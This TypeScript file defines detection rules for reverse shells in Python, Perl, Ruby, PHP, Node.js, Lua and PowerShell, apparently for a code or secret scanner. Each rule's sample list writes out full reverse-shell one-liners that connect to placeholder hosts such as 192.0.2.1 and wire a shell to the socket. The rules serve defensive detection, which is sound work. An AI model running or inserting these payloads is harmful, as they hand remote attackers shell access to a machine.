import type { Rule } from '../../rule.ts';
import { REVERSE_SHELL } from './format.ts';

/** Reverse shells written in a scripting language. */
export const REVERSE_SHELL_SCRIPT_RULES: readonly Rule[] = [
  {
    ...REVERSE_SHELL,
    id: 'python_reverse_shell',
    keywords: ['os.dup2(', 'pty.spawn(', '.fileno('],
    expression:
      /\bsocket\b[\s\S]{1,300}?(?:connect|create_connection)\([\s\S]{1,300}?(?:(?:os\.)?dup2\(|pty\.spawn\(|\.fileno\()[^\r\n]{0,120}/g,
    reach: { before: 650, after: 140 },
    validate: ({ text, after }) => /(?:ba|z|da)?sh["'\\]|subprocess|pty\.spawn|cmd\.exe/.test(text + after),
    describes: 'A Python script that wires a shell to a socket.',
    get finds() {
      return [
        `python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect(("192.0.2.1",4444));os.dup2(s.fileno(),0);subprocess.call(["/bin/sh","-i"])'`,
        `import socket,pty,os;s=socket.socket();s.connect((h,p));[os.dup2(s.fileno(),f)for f in(0,1,2)];pty.spawn("sh")`,
        `python -c 'import socket,os,pty;s=socket.create_connection(("x.example",9));os.dup2(s.fileno(),0);pty.spawn("/bin/bash")'`,
      ];
    },
    get ignores() {
      return [
        's = socket.socket(); s.connect(a); s.send(b)',
        'selector.register(sock.fileno())',
        'pty.spawn("/bin/bash")',
      ];
    },
  },
  {
    ...REVERSE_SHELL,
    id: 'perl_reverse_shell',
    keywords: ['use socket', 'io::socket', 'use io::'],
    expression:
      /(?:use[ \t]{1,4}Socket|IO::Socket(?:::INET)?)[\s\S]{1,400}?(?:(?<![A-Za-z_$])(?:exec|system)\s{0,2}[({"'\\$]{1,6}|fdopen\(|open\([ \t]{0,2}STD(?:IN|OUT))[^\r\n]{0,160}/g,
    reach: { before: 4, after: 620 },
    validate: ({ text }) =>
      /(?:ba|z)?sh\b|cmd|system|fdopen/.test(text) && /PeerAddr|connect\b|inet_aton/.test(text),
    describes: 'A Perl script that wires a shell to a socket.',
    get finds() {
      return [
        `perl -e 'use Socket;$i="192.0.2.1";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");exec("/bin/sh -i");};'`,
        `perl -MIO -e '$c=new IO::Socket::INET(PeerAddr,"192.0.2.1:4444");STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;'`,
        `use Socket; socket(S,PF_INET,SOCK_STREAM,6); connect(S,sockaddr_in(9,inet_aton("x.example"))); open(STDOUT,">&S"); exec("/bin/bash -i");`,
      ];
    },
    get ignores() {
      return [
        'use Socket; my $addr = inet_aton("x.example");',
        'IO::Socket::INET->new(PeerAddr => "x.example:80") or die',
        'perl -MIO::Socket::SSL -e 1',
        'IO::Socket::IP replaces IO::Socket::INET; its system of arguments, PeerAddr too, is the same',
      ];
    },
  },
  {
    ...REVERSE_SHELL,
    id: 'ruby_reverse_shell',
    keywords: ['tcpsocket'],
    expression:
      /(?:TCPSocket\.(?:open|new)\([\s\S]{1,200}?(?:(?<![A-Za-z_.])(?:exec|spawn|system)\b|IO\.popen|\.to_i)|(?<![A-Za-z_.])(?:exec|spawn)\([^\r\n]{1,80}?TCPSocket\.(?:open|new)\()[^\r\n]{0,120}/g,
    reach: { before: 90, after: 360 },
    validate: ({ text }) => /(?:ba|z)?sh\b|popen/.test(text),
    describes: 'A Ruby script that wires a shell to a socket.',
    get finds() {
      return [
        `ruby -rsocket -e 'f=TCPSocket.open("192.0.2.1",4444).to_i;exec sprintf("/bin/sh -i <&%d >&%d 2>&%d",f,f,f)'`,
        `ruby -rsocket -e 'c=TCPSocket.new("x.example","99");while(cmd=c.gets);IO.popen(cmd,"r"){|io|c.print io.read}end'`,
        `s=TCPSocket.new("192.0.2.1",9);spawn("/bin/bash",[:in,:out,:err]=>s)`,
        `ruby -rsocket -e 'spawn("sh",[:in,:out,:err]=>TCPSocket.new("192.0.2.1",9))'`,
      ];
    },
    get ignores() {
      return [
        'TCPSocket.new(host, port).write("x")',
        'class TCPSocket',
        'TCPSocket.open("h", 80) { |s| s.gets }',
      ];
    },
  },
  {
    ...REVERSE_SHELL,
    id: 'php_reverse_shell',
    keywords: ['fsockopen('],
    expression:
      /fsockopen\([\s\S]{1,240}?(?:(?<![A-Za-z_])(?:exec|shell_exec|passthru|system|proc_open|popen)[ \t]{0,2}\(|\x60(?=[^\x60]{0,24}sh\b))[^\r\n]{0,120}/g,
    reach: { before: 0, after: 400 },
    validate: ({ text }) => /(?:ba|z)?sh\b|cmd/.test(text),
    describes: 'A PHP script that wires a shell to a socket.',
    get finds() {
      return [
        `php -r '$s=fsockopen("192.0.2.1",4444);exec("/bin/sh -i <&3 >&3 2>&3");'`,
        `$s=fsockopen("x.example",99);$p=proc_open("/bin/sh -i",array(0=>$s,1=>$s,2=>$s),$x);`,
        `$s=fsockopen('192.0.2.1',4444);shell_exec("/bin/bash -i <&3 >&3 2>&3");`,
        '$s=fsockopen("192.0.2.1",4444);`/bin/sh -i <&3 >&3 2>&3`;',
      ];
    },
    get ignores() {
      return [
        '$fp = fsockopen("x.example", 80);',
        'fsockopen($h, 25); fwrite($s, "HELO");',
        'exec("/bin/sh")',
      ];
    },
  },
  {
    ...REVERSE_SHELL,
    id: 'node_reverse_shell',
    keywords: ['child_process', '.pipe('],
    expression:
      /(?:spawn|exec|fork)\([\s\\"']{0,6}(?:\/bin\/|\/usr\/bin\/)?(?:(?:ba|z)?sh|cmd(?:\.exe)?)\b[\s\S]{1,400}?\.pipe\([\s\S]{0,120}/g,
    reach: { before: 480, after: 130 },
    validate: ({ text, before }) =>
      /(?:\.connect\(|net\.Socket|createConnection\()/.test(before + text) &&
      /\.(?:stdin|stdout)\b/.test(text),
    describes: 'A Node.js script that wires a shell to a socket.',
    get finds() {
      return [
        `require("child_process");var sh=cp.spawn("/bin/sh",[]);var c=new net.Socket();c.connect(4444,"192.0.2.1",function(){c.pipe(sh.stdin);sh.stdout.pipe(c);})`,
        `const s=require('child_process').spawn('bash');const c=net.connect(9,'x.example',()=>{c.pipe(s.stdin);s.stdout.pipe(c)})`,
        `var p=require("child_process").exec("/bin/sh");require("net").createConnection(99,"192.0.2.1").pipe(p.stdin)`,
      ];
    },
    get ignores() {
      return [
        'const { spawn } = require("child_process"); spawn("ls").stdout.pipe(process.stdout)',
        'spawn("sh", ["-c", x]).stdout.pipe(process.stdout)',
        'net.connect(80).pipe(res)',
      ];
    },
  },
  {
    ...REVERSE_SHELL,
    id: 'lua_reverse_shell',
    keywords: ['io.popen(', 'os.execute('],
    expression:
      /\bsocket\b[\s\S]{1,300}?(?:connect|tcp)\([\s\S]{1,300}?(?:io\.popen|os\.execute)\([^\r\n]{0,120}/g,
    reach: { before: 640, after: 140 },
    describes: 'A Lua script that runs commands which come from a socket.',
    get finds() {
      return [
        `lua -e "require('socket');require('os');t=socket.tcp();t:connect('192.0.2.1','4444');os.execute('/bin/sh -i <&3 >&3 2>&3');"`,
        `lua5.1 -e 'local s=require("socket");local t=s.tcp();t:connect("x.example",99);while true do local r=t:receive();local f=io.popen(r,"r") end'`,
        `local socket = require("socket") local c = socket.connect("192.0.2.1", 9) os.execute(c:receive())`,
      ];
    },
    get ignores() {
      return ['os.execute("ls")', 'local socket = require("socket")', 'io.popen("date"):read()'];
    },
  },
  {
    ...REVERSE_SHELL,
    id: 'powershell_reverse_shell',
    keywords: ['sockets.tcpclient'],
    expression:
      /(?:System\.)?Net\.Sockets\.TCPClient[\s\S]{1,500}?(?:iex|invoke-expression|start-process|cmd(?:\.exe)?)\b[^\r\n]{0,120}/gi,
    reach: { before: 11, after: 660 },
    validate: ({ text }) => /GetStream/i.test(text),
    describes: 'A PowerShell script that runs commands which come from a socket.',
    get finds() {
      return [
        `$c=New-Object System.Net.Sockets.TCPClient('192.0.2.1',4444);$s=$c.GetStream();while(($i=$s.Read($b,0,$b.Length)) -ne 0){$d=(iex $t 2>&1|Out-String)}`,
        `$client = New-Object Net.Sockets.TCPClient("x.example",99);$stream = $client.GetStream();Invoke-Expression $data`,
        `[Net.Sockets.TCPClient]::new("192.0.2.1",9).GetStream(); Start-Process cmd.exe`,
      ];
    },
    get ignores() {
      return [
        '(New-Object Net.Sockets.TcpClient).Connect("h", 443)',
        'using System.Net.Sockets; TcpClient c;',
        'New-Object System.Net.Sockets.TCPClient($h,$p); $c.Connected',
      ];
    },
  },
];
